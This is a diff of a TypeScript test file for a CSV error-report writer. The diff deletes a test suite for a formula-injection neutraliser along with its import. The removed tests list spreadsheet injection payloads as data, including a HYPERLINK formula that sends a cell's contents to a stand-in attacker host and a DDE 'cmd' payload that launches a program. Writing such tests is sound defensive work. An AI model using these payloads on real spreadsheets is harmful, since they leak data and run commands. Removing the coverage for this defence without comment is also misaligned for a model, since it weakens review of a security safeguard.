@@ -2,24 +2,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { ErrorReportWriter, neutraliseFormula } from './error-report.writer';
-
-describe('neutraliseFormula (the error report opened in Excel never evaluates an uploaded cell)', () => {
-  it.each([
-    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `'=HYPERLINK("http://evil.example/?"&A1,"点击")`],
-    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
-    ['-2+3', "'-2+3"],
-    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\t=1+1', "'\t=1+1"],
-    ['\r=1+1', "'\r=1+1"],
-  ])('prefixes %j with an apostrophe', (cell, expected) => {
-    expect(neutraliseFormula(cell)).toBe(expected);
-  });
-
-  it.each(['滁州市食品有限公司', '2.5', '', "'=already quoted", ' =1+1', '滁市监罚〔2026〕1号'])('leaves %j as it is', (cell) => {
-    expect(neutraliseFormula(cell)).toBe(cell);
-  });
-});
+import { ErrorReportWriter } from './error-report.writer';
 
 describe('ErrorReportWriter', () => {
   let dir: string;
